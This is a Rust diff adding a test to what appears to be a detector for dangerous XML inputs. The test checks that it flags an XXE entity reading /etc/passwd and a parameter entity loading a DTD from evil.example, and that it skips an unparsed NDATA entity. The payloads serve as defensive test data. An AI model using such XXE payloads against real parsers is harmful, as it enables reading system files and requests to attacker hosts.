@@ -566,3 +566,15 @@ fn calls_that_run_nothing() {
         assert!(!hit(v), "{v:?}");
     }
 }
+
+#[test]
+fn external_entities_that_are_parsed() {
+    assert!(hit(
+        "<!DOCTYPE x [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><x>&xxe;</x>"
+    ));
+    assert!(hit(
+        "<!ENTITY % p PUBLIC \"x\" \"http://evil.example/x.dtd\">"
+    ));
+    // an unparsed (NDATA) entity names a file the parser never reads into the document
+    assert!(!hit("<!ENTITY logo SYSTEM \"images/logo.gif\" NDATA gif>"));
+}
